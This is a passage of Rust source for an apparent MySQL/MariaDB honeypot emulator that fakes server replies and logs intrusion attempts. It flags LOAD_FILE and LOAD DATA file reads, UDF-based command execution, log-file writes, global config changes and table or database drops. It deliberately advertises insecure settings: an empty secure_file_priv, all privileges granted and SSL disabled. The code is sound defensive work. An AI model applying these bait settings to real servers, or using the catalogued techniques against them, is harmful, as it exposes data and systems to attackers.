                                "Unknown column '{}' in '{}'",
                                cap(w, 192),
                                self.server.flavor.field_list_clause()
                            ),
                        ));
                    }
                }
            }
            Tok::Ident(w) => {
                return Err(err(
                    1054,
                    "42S22",
                    format!(
                        "Unknown column '{}' in '{}'",
                        cap(w, 192),
                        self.server.flavor.field_list_clause()
                    ),
                ));
            }
            Tok::Op(_) => {
                return Err(err(
                    1064,
                    "42000",
                    self.server.flavor.parse_error(near(sql, t, *p - 1)),
                ));
            }
        })
    }

    fn function(&mut self, name: &str, args: Vec<Val>) -> Result<Val, SqlError> {
        let s = &self.server;
        let arg = |i: usize| args.get(i).and_then(|v| v.bytes.clone());
        let now = chrono::Utc::now();
        Ok(match name {
            "version" => Val::str(s.flavor.version_string.clone()),
            "database" | "schema" => {
                let v = match &self.session.db {
                    Some(d) => Val::str(d.clone()).nullable(),
                    None => Val::null(),
                };
                Val {
                    chars: Some(64),
                    ..v
                }
            }
            "user" | "system_user" | "session_user" => {
                Val::str(format!("{}@{}", self.session.user, self.session.peer))
            }
            "current_user" => Val::str(format!("{}@%", self.session.user)),
            "connection_id" => Val::int(i64::from(self.session.conn_id)),
            "now" | "sysdate" | "current_timestamp" | "localtime" | "localtimestamp" => {
                Val::str(now.format("%Y-%m-%d %H:%M:%S").to_string())
            }
            "curdate" | "current_date" | "utc_date" => Val::str(now.format("%Y-%m-%d").to_string()),
            "curtime" | "current_time" | "utc_time" => Val::str(now.format("%H:%M:%S").to_string()),
            "unix_timestamp" => Val::int(now.timestamp()),
            "uuid" => {
                let u = mirage_core::new_id().to_string();
                Val::str(u)
            }
            "rand" => Val {
                bytes: Some(b"0.4196418591365063".to_vec()),
                kind: Kind::Dec,
                not_null: true,
                chars: None,
            },
            "pi" => Val {
                bytes: Some(b"3.141593".to_vec()),
                kind: Kind::Dec,
                not_null: true,
                chars: None,
            },
            "sleep" => {
                let secs = args.first().and_then(Val::as_i64).unwrap_or(0).max(0) as u64;
                self.effects.sleep =
                    (self.effects.sleep + Duration::from_secs(secs)).min(MAX_SLEEP);
                Val::int(0)
            }
            "benchmark" => Val::int(0),
            "load_file" => {
                let path = String::from_utf8_lossy(&arg(0).unwrap_or_default()).into_owned();
                self.attack(
                    "mysql.file_read",
                    format!("LOAD_FILE('{}')", cap(&path, 200)),
                    json!({"path": path, "via": "load_file"}),
                );
                Val::null()
            }
            "concat" | "concat_ws" => {
                if args.iter().any(|a| a.bytes.is_none()) && name == "concat" {
                    return Ok(Val::null());
                }
                let mut out = Vec::new();
                let (sep, rest) = if name == "concat_ws" {
                    (arg(0).unwrap_or_default(), args.get(1..).unwrap_or(&[]))
                } else {
                    (Vec::new(), &args[..])
                };
                for (i, a) in rest.iter().filter(|a| a.bytes.is_some()).enumerate() {
                    if i > 0 {
                        out.extend_from_slice(&sep);
                    }
                    out.extend_from_slice(a.bytes.as_deref().unwrap_or(b""));
                }
                Val::str(out)
            }
            "hex" => {
                Val::str(mirage_proto::mysql::to_hex(&arg(0).unwrap_or_default()).to_uppercase())
            }
            "unhex" => Val {
                bytes: Some(unhex(&arg(0).unwrap_or_default())),
                kind: Kind::Bin,
                not_null: false,
                chars: None,
            },
            "md5" => Val::str(format!(
                "{:032x}",
                u128::from_be_bytes(md5_like(&arg(0).unwrap_or_default()))
            )),
            "sha1" | "sha" => {
                use sha1::Digest as _;
                Val::str(mirage_proto::mysql::to_hex(&sha1::Sha1::digest(
                    arg(0).unwrap_or_default(),
                )))
            }
            "length" | "octet_length" | "char_length" | "character_length" => {
                Val::int(arg(0).map(|b| b.len()).unwrap_or(0) as i64)
            }
            "lower" | "lcase" => Val::str(arg(0).unwrap_or_default().to_ascii_lowercase()),
            "upper" | "ucase" => Val::str(arg(0).unwrap_or_default().to_ascii_uppercase()),
            "ifnull" | "coalesce" => args
                .into_iter()
                .find(|a| a.bytes.is_some())
                .unwrap_or_else(Val::null),
            "count" | "sum" | "max" | "min" | "avg" => {
                args.into_iter().next().unwrap_or_else(|| Val::int(0))
            }
            "char" => Val::str(
                args.iter()
                    .filter_map(Val::as_i64)
                    .map(|c| c as u8)
                    .collect::<Vec<u8>>(),
            ),
            "@@version" => Val::str(s.flavor.version_string.clone()),
            "found_rows" | "row_count" | "last_insert_id" => Val::int(0),
            "get_lock" | "release_lock" | "is_free_lock" => Val::int(1),
            _ => {
                if let Some(udf) = lock(&s.udfs).get(name).cloned() {
                    let cmd = String::from_utf8_lossy(&arg(0).unwrap_or_default()).into_owned();
                    self.attack(
                        "mysql.udf_exec",
                        format!("{name}('{}') via {udf}", cap(&cmd, 200)),
                        json!({"function": name, "library": udf, "command": cmd}),
                    );
                    // sys_exec returns an exit status, sys_eval the output.
                    return Ok(if name.contains("exec") {
                        Val::int(0)
                    } else {
                        Val::str("")
                    });
                }
                return Err(match &self.session.db {
                    Some(db) => err(
                        1305,
                        "42000",
                        format!("FUNCTION {}.{} does not exist", cap(db, 64), cap(name, 64)),
                    ),
                    None => err(1046, "3D000", "No database selected"),
                });
            }
        })
    }

    /// A system variable's value, if the server has it.
    fn sysvar(&self, name: &str) -> Option<Val> {
        let s = self.server;
        let f = &s.flavor;
        let int = |i: u64| Val::int(i as i64);
        Some(match name {
            "version" => Val::str(f.version_string.clone()),
            "version_comment" => Val::str(f.version_comment.clone()),
            "version_compile_os" => Val::str(if f.mariadb {
                "debian-linux-gnu"
            } else {
                "Linux"
            }),
            "version_compile_machine" => Val::str("x86_64"),
            "hostname" => Val::str(s.cfg.hostname.clone()),
            "port" => int(u64::from(self.session.port)),
            "socket" => Val::str("/var/run/mysqld/mysqld.sock"),
            "datadir" => Val::str("/var/lib/mysql/"),
            "basedir" => Val::str("/usr/"),
            "plugin_dir" => Val::str("/usr/lib/mysql/plugin/"),
            "tmpdir" => Val::str("/tmp"),
            "secure_file_priv" => Val::str(""),
            "general_log_file" => Val::str(format!("/var/lib/mysql/{}.log", s.cfg.hostname)),
            "general_log" | "slow_query_log" | "read_only" | "super_read_only" | "have_ssl"
            | "log_bin" => match name {
                "have_ssl" => Val::str("DISABLED"),
                _ => int(0),
            },
            "max_allowed_packet" => int(s.cfg.max_allowed_packet),
            "max_connections" => int(151),
            "autocommit" => int(u64::from(self.session.autocommit)),
            "auto_increment_increment" | "auto_increment_offset" => int(1),
            "character_set_client" | "character_set_connection" | "character_set_results" => {
                Val::str(charset_name(self.session.charset))
            }
            "character_set_server" | "character_set_database" => Val::str(f.collation.1),
            "character_set_system" => Val::str("utf8mb3"),
            "collation_server" | "collation_database" => Val::str(f.collation.0),
            "collation_connection" => Val::str(f.collation.0),
            "sql_mode" => Val::str(if f.mariadb {
                "STRICT_TRANS_TABLES,ERROR_FOR_DIVISION_BY_ZERO,NO_AUTO_CREATE_USER,NO_ENGINE_SUBSTITUTION"
            } else {
                "ONLY_FULL_GROUP_BY,STRICT_TRANS_TABLES,NO_ZERO_IN_DATE,NO_ZERO_DATE,ERROR_FOR_DIVISION_BY_ZERO,NO_ENGINE_SUBSTITUTION"
            }),
            "tx_isolation" | "transaction_isolation" => Val::str("REPEATABLE-READ"),
            "tx_read_only" | "transaction_read_only" => int(0),
            "time_zone" => Val::str("SYSTEM"),
            "system_time_zone" => Val::str("UTC"),
            "lower_case_table_names" => int(0),
            "interactive_timeout" | "wait_timeout" => int(28800),
            "net_write_timeout" => int(60),
            "net_buffer_length" => int(16384),
            "query_cache_size" => int(if f.mariadb { 1_048_576 } else { 0 }),
            "query_cache_type" => Val::str("OFF"),
            "license" => Val::str("GPL"),
            "init_connect" => Val::str(""),
            "performance_schema" => int(u64::from(!f.mariadb)),
            "default_authentication_plugin" => Val::str(f.plugin.name()),
            "server_id" => int(1),
            "identity" | "last_insert_id" => int(0),
            "warning_count" | "error_count" => int(0),
            "default_storage_engine" | "storage_engine" => Val::str("InnoDB"),
            "innodb_version" => {
                Val::str(format!("{}.{}.{}", f.version.0, f.version.1, f.version.2))
            }
            "protocol_version" => int(10),
            "session_track_schema" => int(1),
            _ => return None,
        })
    }

    fn show(&mut self, sql: &[u8], t: &[Token]) -> Reply {
        let mut i = 1;
        let mut full = false;
        let mut scope_global = false;
        while let Some(k) = kw(t.get(i)) {
            match k.as_str() {
                "full" => full = true,
                "global" => scope_global = true,
                "session" | "local" | "extended" => {}
                _ => break,
            }
            i += 1;
        }
        let _ = scope_global;
        let what = kw(t.get(i)).unwrap_or_default();
        let like_at = |from: usize| -> Option<Vec<u8>> {
            let pos = (from..t.len()).find(|&j| is_kw(t.get(j), "like"))?;
            match t.get(pos + 1).map(|x| &x.tok) {
                Some(Tok::Str(s)) => Some(s.clone()),
                _ => None,
            }
        };
        match what.as_str() {
            "databases" | "schemas" => {
                let pat = like_at(i + 1);
                let mut names: Vec<String> = self
                    .server
                    .catalog
                    .databases
                    .iter()
                    .map(|d| d.name.to_owned())
                    .collect();
                names.extend(lock(&self.server.extra_dbs).iter().cloned());
                names.sort();
                let rows = names
                    .into_iter()
                    .filter(|n| pat.as_ref().is_none_or(|p| like(p, n.as_bytes())))
                    .map(|n| vec![Some(n)])
                    .collect();
                let col = match &pat {
                    Some(p) => format!("Database ({})", String::from_utf8_lossy(p)),
                    None => "Database".into(),
                };
                self.text_rows(
                    "information_schema",
                    "SCHEMATA",
                    &[(&col, "SCHEMA_NAME", 64)],
                    rows,
                )
            }
            "tables" => {
                let mut db = self.session.db.clone();
                if is_kw(t.get(i + 1), "from") || is_kw(t.get(i + 1), "in") {
                    db = name_of(t.get(i + 2));
                }
                let Some(db) = db else {
                    return Reply::Err(err(1046, "3D000", "No database selected"));
                };
                let Some(d) = self.server.catalog.database(&db).cloned() else {
                    if lock(&self.server.extra_dbs).contains(&db) {
                        return self.text_rows(
                            "information_schema",
                            "TABLE_NAMES",
                            &[(&format!("Tables_in_{db}"), "TABLE_NAME", 64)],
                            Vec::new(),
                        );
                    }
                    return Reply::Err(err(
                        1049,
                        "42000",
                        format!("Unknown database '{}'", cap(&db, 192)),
                    ));
                };
                let pat = like_at(i + 1);
                let rows: Vec<Vec<Option<String>>> = d
                    .tables
                    .iter()
                    .filter(|t| pat.as_ref().is_none_or(|p| like(p, t.name.as_bytes())))
                    .map(|t| {
                        let mut r = vec![Some(t.name.to_owned())];
                        if full {
                            r.push(Some("BASE TABLE".into()));
                        }
                        r
                    })
                    .collect();
                let name = format!("Tables_in_{db}");
                if full {
                    self.text_rows(
                        "information_schema",
                        "TABLE_NAMES",
                        &[(&name, "TABLE_NAME", 64), ("Table_type", "TABLE_TYPE", 64)],
                        rows,
                    )
                } else {
                    self.text_rows(
                        "information_schema",
                        "TABLE_NAMES",
                        &[(&name, "TABLE_NAME", 64)],
                        rows,
                    )
                }
            }
            "variables" | "status" => {
                let pat = like_at(i + 1);
                let names: &[&str] = if what == "status" {
                    &STATUS_NAMES
                } else {
                    &VARIABLE_NAMES
                };
                let mut rows = Vec::new();
                for n in names {
                    if pat.as_ref().is_some_and(|p| !like(p, n.as_bytes())) {
                        continue;
                    }
                    let v = if what == "status" {
                        Some(self.status_value(n))
                    } else {
                        self.sysvar(n)
                            .and_then(|v| v.bytes)
                            .map(|b| String::from_utf8_lossy(&b).into_owned())
                    };
                    rows.push(vec![Some((*n).to_owned()), v]);
                }
                let table = if what == "status" {
                    "SESSION_STATUS"
                } else {
                    "SESSION_VARIABLES"
                };
                self.text_rows(
                    "information_schema",
                    table,
                    &[
                        ("Variable_name", "VARIABLE_NAME", 64),
                        ("Value", "VARIABLE_VALUE", 2048),
                    ],
                    rows,
                )
            }
            "processlist" => self.processlist(),
            "grants" => {
                let user = &self.session.user;
                let col = format!("Grants for {user}@%");
                let q = '`';
                let rows = vec![vec![Some(format!(
                    "GRANT ALL PRIVILEGES ON *.* TO {q}{user}{q}@{q}%{q} WITH GRANT OPTION"
                ))]];
                self.text_rows("", "", &[(&col, "", 1024)], rows)
            }
            "warnings" | "errors" => self.text_rows(
                "",
                "",
                &[("Level", "", 7), ("Code", "", 4), ("Message", "", 512)],
                Vec::new(),
            ),
            "engines" => self.text_rows(
                "information_schema",
                "ENGINES",
                &[
                    ("Engine", "ENGINE", 64),
                    ("Support", "SUPPORT", 8),
                    ("Comment", "COMMENT", 160),
                    ("Transactions", "TRANSACTIONS", 3),
                    ("XA", "XA", 3),
                    ("Savepoints", "SAVEPOINTS", 3),
                ],
                vec![
                    [
                        "InnoDB",
                        "DEFAULT",
                        "Supports transactions, row-level locking, and foreign keys",
                        "YES",
                        "YES",
                        "YES",
                    ]
                    .iter()
                    .map(|s| Some((*s).to_owned()))
                    .collect(),
                    [
                        "MEMORY",
                        "YES",
                        "Hash based, stored in memory, useful for temporary tables",
                        "NO",
                        "NO",
                        "NO",
                    ]
                    .iter()
                    .map(|s| Some((*s).to_owned()))
                    .collect(),
                    ["CSV", "YES", "CSV storage engine", "NO", "NO", "NO"]
                        .iter()
                        .map(|s| Some((*s).to_owned()))
                        .collect(),
                ],
            ),
            "master" | "slave" | "replica" | "binary" => self.text_rows(
                "",
                "",
                &[("File", "", 512), ("Position", "", 20)],
                Vec::new(),
            ),
            "create" => {
                if is_kw(t.get(i + 1), "table") {
                    let Some((db, name, _)) = self.table_ref(t, i + 2) else {
                        return self.parse_error(sql, t, i + 2);
                    };
                    let table = match self.lookup(&db, &name) {
                        Ok(t) => t,
                        Err(e) => return Reply::Err(e),
                    };
                    let ddl = self.create_table_text(&table);
                    return self.text_rows(
                        "",
                        "",
                        &[("Table", "", 64), ("Create Table", "", 1024)],
                        vec![vec![Some(table.name.to_owned()), Some(ddl)]],
                    );
                }
                if is_kw(t.get(i + 1), "database") || is_kw(t.get(i + 1), "schema") {
                    let Some(db) = name_of(t.get(i + 2)) else {
                        return self.parse_error(sql, t, i + 2);
                    };
                    if !self.db_exists(&db) {
                        return Reply::Err(err(
                            1049,
                            "42000",
                            format!("Unknown database '{}'", cap(&db, 192)),
                        ));
                    }
                    let ddl = format!(
                        "CREATE DATABASE `{db}` /*!40100 DEFAULT CHARACTER SET {} */",
                        self.server.flavor.collation.1
                    );
                    return self.text_rows(
                        "",
                        "",
                        &[("Database", "", 64), ("Create Database", "", 1024)],
                        vec![vec![Some(db), Some(ddl)]],
                    );
                }
                self.parse_error(sql, t, i + 1)
            }
            "columns" | "fields" => {
                let from =
                    (i + 1..t.len()).find(|&j| is_kw(t.get(j), "from") || is_kw(t.get(j), "in"));
                let Some(from) = from else {
                    return self.parse_error(sql, t, i + 1);
                };
                let Some((mut db, name, _)) = self.table_ref(t, from + 1) else {
                    return self.parse_error(sql, t, from + 1);
                };
                if let Some(k) =
                    (from + 2..t.len()).find(|&j| is_kw(t.get(j), "from") || is_kw(t.get(j), "in"))
                    && let Some(d) = name_of(t.get(k + 1))
                {
                    db = d;
                }
                self.describe(&db, &name)
            }
            "charset" | "character" | "collation" | "index" | "indexes" | "keys" | "triggers"
            | "events" | "plugins" | "privileges" | "open" | "table" | "function" | "procedure"
            | "profiles" => Reply::Rows(ResultSet {
                columns: vec![self.text_col("Name", 64)],
                rows: Vec::new(),
                no_index: false,
            }),
            _ => self.parse_error(sql, t, i),
        }
    }

    fn status_value(&self, name: &str) -> String {
        let s = self.server;
        match name {
            "Uptime" => s.started.elapsed().as_secs().to_string(),
            "Threads_connected" | "Threads_running" => s.live.load(Ordering::Relaxed).to_string(),
            "Connections" => s.connections.load(Ordering::Relaxed).to_string(),
            "Questions" | "Queries" => s.questions.load(Ordering::Relaxed).to_string(),
            "Aborted_connects" => s.failed_logins.load(Ordering::Relaxed).to_string(),
            "Ssl_cipher" => String::new(),
            _ => "0".into(),
        }
    }

    fn processlist(&self) -> Reply {
        let rows = vec![vec![
            Some(self.session.conn_id.to_string()),
            Some(self.session.user.clone()),
            Some(format!(
                "{}:{}",
                self.session.peer,
                40000 + self.session.conn_id % 20000
            )),
            self.session.db.clone(),
            Some("Query".into()),
            Some("0".into()),
            Some("starting".into()),
            Some("SHOW PROCESSLIST".into()),
        ]];
        self.text_rows(
            "information_schema",
            "PROCESSLIST",
            &[
                ("Id", "ID", 21),
                ("User", "USER", 32),
                ("Host", "HOST", 64),
                ("db", "DB", 64),
                ("Command", "COMMAND", 16),
                ("Time", "TIME", 7),
                ("State", "STATE", 30),
                ("Info", "INFO", 100),
            ],
            rows,
        )
    }

    /// COM_PROCESS_INFO's answer (SHOW PROCESSLIST).
    pub fn process_info(&self) -> Reply {
        self.processlist()
    }

    fn create_table_text(&self, t: &Table) -> String {
        let mysql8 = !self.server.flavor.mariadb && self.server.flavor.version >= (8, 0, 0);
        let mut s = format!("CREATE TABLE `{}` (\n", t.name);
        for c in &t.cols {
            let _ = std::fmt::Write::write_fmt(
                &mut s,
                format_args!(
                    "  `{}` {}{}{},\n",
                    c.name,
                    c.sql_type(mysql8),
                    if c.nullable {
                        " DEFAULT NULL"
                    } else {
                        " NOT NULL"
                    },
                    if c.auto_increment {
                        " AUTO_INCREMENT"
                    } else {
                        ""
                    }
                ),
            );
        }
        let pk: Vec<String> = t
            .cols
            .iter()
            .filter(|c| c.primary)
            .map(|c| format!("`{}`", c.name))
            .collect();
        let _ =
            std::fmt::Write::write_fmt(&mut s, format_args!("  PRIMARY KEY ({})\n", pk.join(",")));
        let collate = self.server.flavor.collation;
        let _ = std::fmt::Write::write_fmt(
            &mut s,
            format_args!(
                ") ENGINE=InnoDB DEFAULT CHARSET={} COLLATE={}",
                collate.1, collate.0
            ),
        );
        s
    }

    fn describe(&mut self, db: &str, name: &str) -> Reply {
        let table = match self.lookup(db, name) {
            Ok(t) => t,
            Err(e) => return Reply::Err(e),
        };
        let mysql8 = !self.server.flavor.mariadb && self.server.flavor.version >= (8, 0, 0);
        let rows = table
            .cols
            .iter()
            .map(|c| {
                vec![
                    Some(c.name.to_owned()),
                    Some(c.sql_type(mysql8)),
                    Some(if c.nullable { "YES" } else { "NO" }.to_owned()),
                    Some(if c.primary { "PRI" } else { "" }.to_owned()),
                    None,
                    Some(
                        if c.auto_increment {
                            "auto_increment"
                        } else {
                            ""
                        }
                        .to_owned(),
                    ),
                ]
            })
            .collect();
        self.text_rows(
            "information_schema",
            "COLUMNS",
            &[
                ("Field", "COLUMN_NAME", 64),
                ("Type", "COLUMN_TYPE", 1024),
                ("Null", "IS_NULLABLE", 3),
                ("Key", "COLUMN_KEY", 3),
                ("Default", "COLUMN_DEFAULT", 1024),
                ("Extra", "EXTRA", 30),
            ],
            rows,
        )
    }

    fn set(&mut self, sql: &[u8], t: &[Token]) -> Reply {
        let mut track = Vec::new();
        for assign in split_top(t.get(1..).unwrap_or(&[])) {
            let mut a = assign;
            let mut global = false;
            while let Some(k) = kw(a.first()) {
                match k.as_str() {
                    "global" | "persist" | "persist_only" => {
                        global = true;
                        a = &a[1..];
                    }
                    "session" | "local" => a = &a[1..],
                    _ => break,
                }
            }
            let Some(first) = a.first() else {
                return self.parse_error(sql, t, 1);
            };
            match &first.tok {
                Tok::Word(w)
                    if w.eq_ignore_ascii_case("names")
                        || w.eq_ignore_ascii_case("charset")
                        || w.eq_ignore_ascii_case("character") =>
                {
                    let cs_tok = if w.eq_ignore_ascii_case("character") {
                        a.get(2)
                    } else {
                        a.get(1)
                    };
                    let Some(cs) = name_of(cs_tok) else {
                        return self.parse_error(sql, t, 1);
                    };
                    if let Some(id) = charset_id(&cs) {
                        self.session.charset = id;
                    }
                    if self.session.track {
                        let cs_name = cs.to_ascii_lowercase();
                        for v in [
                            "character_set_client",
                            "character_set_connection",
                            "character_set_results",
                        ] {
                            track.extend(mirage_proto::mysql::session_track_variable(
                                v.as_bytes(),
                                cs_name.as_bytes(),
                            ));
                        }
                    }
                }
                Tok::Word(w)
                    if w.eq_ignore_ascii_case("transaction")
                        || w.eq_ignore_ascii_case("password") => {}
                Tok::Word(_) | Tok::SysVar(_) | Tok::Ident(_) => {
                    let var = match &first.tok {
                        Tok::SysVar(v) => v.clone(),
                        Tok::Word(v) | Tok::Ident(v) => v.to_ascii_lowercase(),
                        _ => String::new(),
                    };
                    if var.is_empty() {
                        return self.parse_error(sql, t, 1);
                    }
                    if global
                        || first.start > 0
                            && sql
                                .get(first.start..first.start + 9)
                                .is_some_and(|p| p.eq_ignore_ascii_case(b"@@global."))
                    {
                        global = true;
                    }
                    let value = match a.get(2).map(|x| &x.tok) {
                        Some(Tok::Str(s)) => String::from_utf8_lossy(s).into_owned(),
                        Some(Tok::Num(n)) => n.clone(),
                        Some(Tok::Word(w)) | Some(Tok::Ident(w)) => w.clone(),
                        _ => String::new(),
                    };
                    if !(is_op(a.get(1), "=") || is_op(a.get(1), ":=")) {
                        return self.parse_error(sql, t, 1);
                    }
                    match var.as_str() {
                        "autocommit" => {
                            let on =
                                matches!(value.to_ascii_lowercase().as_str(), "1" | "on" | "true");
                            self.session.autocommit = on;
                            if on {
                                self.session.in_trans = false;
                            }
                            if self.session.track {
                                track.extend(mirage_proto::mysql::session_track_variable(
                                    b"autocommit",
                                    if on { b"ON" } else { b"OFF" },
                                ));
                            }
                        }
                        "general_log_file" | "slow_query_log_file" => {
                            let class = path_class(&value);
                            self.attack(
                                "mysql.log_file_write",
                                format!("SET GLOBAL {var} = '{}' ({class})", cap(&value, 200)),
                                json!({"variable": var, "path": value, "class": class}),
                            );
                        }
                        "secure_file_priv" | "local_infile" | "general_log" | "slow_query_log"
                            if global =>
                        {
                            self.attack(
                                "mysql.config_change",
                                format!("SET GLOBAL {var} = {}", cap(&value, 200)),
                                json!({"variable": var, "value": value}),
                            );
                        }
                        _ => {}
                    }
                }
                Tok::UserVar(_) => {}
                _ => return self.parse_error(sql, t, 1),
            }
        }
        Reply::Ok {
            affected: 0,
            info: String::new(),
            track,
        }
    }

    fn write(&mut self, sql: &[u8], t: &[Token], verb: &str) -> Reply {
        // Find the table: after INTO (insert/replace), FROM (delete), or the
        // verb and its modifiers (update).
        let mut i = 1;
        while let Some(k) = kw(t.get(i)) {
            if [
                "low_priority",
                "delayed",
                "high_priority",
                "ignore",
                "quick",
                "into",
                "from",
            ]
            .contains(&k.as_str())
            {
                i += 1;
            } else {
                break;
            }
        }
        let Some((db, name, _)) = self.table_ref(t, i) else {
            return self.parse_error(sql, t, i);
        };
        if let Err(e) = self.lookup(&db, &name) {
            // Tables created in this honeypot's life accept writes too.
            if !lock(&self.server.extra_dbs).contains(&db) {
                return Reply::Err(e);
            }
        }
        if !self.session.autocommit {
            self.session.in_trans = true;
        }
        let affected = if verb == "insert" || verb == "replace" {
            // One row per top-level parenthesised tuple after VALUES.
            let mut depth = 0;
            let mut n = 0u64;
            let mut after_values = false;
            for tok in t {
                match &tok.tok {
                    Tok::Word(w)
                        if w.eq_ignore_ascii_case("values") || w.eq_ignore_ascii_case("value") =>
                    {
                        after_values = true
                    }
                    Tok::Word(w) if w.eq_ignore_ascii_case("select") && depth == 0 => {
                        after_values = false
                    }
                    Tok::Op(o) if o == "(" => {
                        if depth == 0 && after_values {
                            n += 1;
                        }
                        depth += 1;
                    }
                    Tok::Op(o) if o == ")" => depth -= 1,
                    _ => {}
                }
            }
            n.max(1)
        } else {
            0
        };
        let info = if verb == "update" {
            "Rows matched: 0  Changed: 0  Warnings: 0".to_owned()
        } else if affected > 1 {
            format!("Records: {affected}  Duplicates: 0  Warnings: 0")
        } else {
            String::new()
        };
        Reply::Ok {
            affected,
            info,
            track: Vec::new(),
        }
    }

    fn create(&mut self, sql: &[u8], t: &[Token]) -> Reply {
        let mut i = 1;
        while let Some(k) = kw(t.get(i)) {
            if [
                "or",
                "replace",
                "temporary",
                "definer",
                "aggregate",
                "if",
                "not",
                "exists",
                "sql",
                "security",
                "algorithm",
                "undefined",
                "merge",
            ]
            .contains(&k.as_str())
                || is_op(t.get(i + 1), "=")
            {
                i += if is_op(t.get(i + 1), "=") { 3 } else { 1 };
            } else {
                break;
            }
        }
        let what = kw(t.get(i)).unwrap_or_default();
        match what.as_str() {
            "database" | "schema" => {
                let mut j = i + 1;
                let if_not_exists = is_kw(t.get(j), "if");
                if if_not_exists {
                    j += 3;
                }
                let Some(db) = name_of(t.get(j)) else {
                    return self.parse_error(sql, t, j);
                };
                if self.db_exists(&db) {
                    if if_not_exists {
                        return self.ok(0);
                    }
                    return Reply::Err(err(
                        1007,
                        "HY000",
                        format!("Can't create database '{}'; database exists", cap(&db, 192)),
                    ));
                }
                let mut extra = lock(&self.server.extra_dbs);
                if extra.len() < MAX_REMEMBERED {
                    extra.insert(db);
                }
                self.ok(1)
            }
            "function" => {
                // CREATE [AGGREGATE] FUNCTION name RETURNS type SONAME 'lib'
                let name = name_of(t.get(i + 1))
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                let soname = t.iter().position(
                    |x| matches!(&x.tok, Tok::Word(w) if w.eq_ignore_ascii_case("soname")),
                );
                if let Some(p) = soname {
                    let lib = name_of(t.get(p + 1)).unwrap_or_default();
                    self.attack(
                        "mysql.udf",
                        format!("CREATE FUNCTION {name} SONAME '{}'", cap(&lib, 200)),
                        json!({"function": name, "library": lib}),
                    );
                    let mut udfs = lock(&self.server.udfs);
                    if udfs.len() < MAX_REMEMBERED {
                        udfs.insert(name, lib);
                    }
                }
                self.ok(0)
            }
            "table" | "index" | "view" | "user" | "procedure" | "trigger" | "event" | "role"
            | "unique" | "fulltext" | "spatial" => self.ok(0),
            _ => self.parse_error(sql, t, i),
        }
    }

    fn drop(&mut self, sql: &[u8], t: &[Token], verb: &str) -> Reply {
        let what = kw(t.get(1)).unwrap_or_default();
        let target = t.get(1..).and_then(|rest| {
            rest.iter().rev().find_map(|x| match &x.tok {
                Tok::Word(w) | Tok::Ident(w) => Some(w.clone()),
                _ => None,
            })
        });
        if verb == "drop" && (what == "database" || what == "schema") {
            let db = target.unwrap_or_default();
            self.attack(
                "mysql.destroy",
                format!("DROP DATABASE {}", cap(&db, 200)),
                json!({"statement": "drop_database", "name": db}),
            );
            if !self.db_exists(&db) && !is_kw(t.get(2), "if") {
                return Reply::Err(err(
                    1008,
                    "HY000",
                    format!(
                        "Can't drop database '{}'; database doesn't exist",
                        cap(&db, 192)
                    ),
                ));
            }
            lock(&self.server.extra_dbs).remove(&db);
            return self.ok(0);
        }
        if what == "table" || verb == "truncate" {
            let name = target.unwrap_or_default();
            self.attack(
                "mysql.destroy",
                format!("{} TABLE {}", verb.to_uppercase(), cap(&name, 200)),
                json!({"statement": format!("{verb}_table"), "name": name}),
            );
            return self.ok(0);
        }
        if what == "function" {
            let name = target.unwrap_or_default().to_ascii_lowercase();
            lock(&self.server.udfs).remove(&name);
            return self.ok(0);
        }
        if [
            "user",
            "index",
            "view",
            "procedure",
            "trigger",
            "event",
            "role",
            "temporary",
        ]
        .contains(&what.as_str())
        {
            return self.ok(0);
        }
        self.parse_error(sql, t, 1)
    }

    fn load(&mut self, sql: &[u8], t: &[Token]) -> Reply {
        let infile = t
            .iter()
            .position(|x| matches!(&x.tok, Tok::Word(w) if w.eq_ignore_ascii_case("infile")));
        let Some(p) = infile else {
            return self.parse_error(sql, t, 1);
        };
        let path = name_of(t.get(p + 1)).unwrap_or_default();
        let local = t
            .iter()
            .take(p)
            .any(|x| matches!(&x.tok, Tok::Word(w) if w.eq_ignore_ascii_case("local")));
        self.attack(
            "mysql.file_read",
            format!(
                "LOAD DATA {}INFILE '{}'",
                if local { "LOCAL " } else { "" },
                cap(&path, 200)
            ),
            json!({"path": path, "via": if local { "load_data_local" } else { "load_data" }}),
        );
        Reply::Ok {
            affected: 0,
            info: "Records: 0  Deleted: 0  Skipped: 0  Warnings: 0".into(),
            track: Vec::new(),
        }
    }
}

enum Pick {
    Col(usize),
    Val(Option<Vec<u8>>),
}

/// Keywords that end a select list.
const CLAUSES: &[&str] = &[
    "from",
    "where",
    "group",
    "having",
    "order",
    "limit",
    "into",
    "procedure",
    "for",
    "lock",
    "union",
    "window",
];

const SELECT_MODIFIERS: &[&str] = &[
    "all",
    "distinct",
    "distinctrow",
    "high_priority",
    "straight_join",
    "sql_small_result",
    "sql_big_result",
    "sql_buffer_result",
    "sql_cache",
    "sql_no_cache",
    "sql_calc_found_rows",
];

const VARIABLE_NAMES: [&str; 30] = [
    "autocommit",
    "basedir",
    "character_set_client",
    "character_set_connection",
    "character_set_database",
    "character_set_results",
    "character_set_server",
    "character_set_system",
    "collation_connection",
    "collation_database",
    "collation_server",
    "datadir",
    "default_authentication_plugin",
    "general_log",
    "general_log_file",
    "have_ssl",
    "hostname",
    "interactive_timeout",
    "license",
    "log_bin",
    "lower_case_table_names",
    "max_allowed_packet",
    "max_connections",
    "plugin_dir",
    "port",
    "secure_file_priv",
    "socket",
    "sql_mode",
    "version",
    "version_comment",
];

const STATUS_NAMES: [&str; 8] = [
    "Aborted_connects",
    "Connections",
    "Queries",
    "Questions",
    "Ssl_cipher",
    "Threads_connected",
    "Threads_running",
    "Uptime",
];

/// Split tokens at top-level commas.
fn split_top(t: &[Token]) -> Vec<&[Token]> {
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut start = 0;
    for (i, tok) in t.iter().enumerate() {
        match &tok.tok {
            Tok::Op(o) if o == "(" => depth += 1,
            Tok::Op(o) if o == ")" => depth -= 1,
            Tok::Op(o) if o == "," && depth == 0 => {
                out.push(&t[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    if start < t.len() {
        out.push(&t[start..]);
    }
    out
}

/// The index of the `)` matching the `(` at `open`.
fn matching_paren(t: &[Token], open: usize) -> Option<usize> {
    let mut depth = 0i32;
    for (i, tok) in t.iter().enumerate().skip(open) {
        match &tok.tok {
            Tok::Op(o) if o == "(" => depth += 1,
            Tok::Op(o) if o == ")" => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

/// An item's expression and its alias (`expr AS a`, `expr a`).
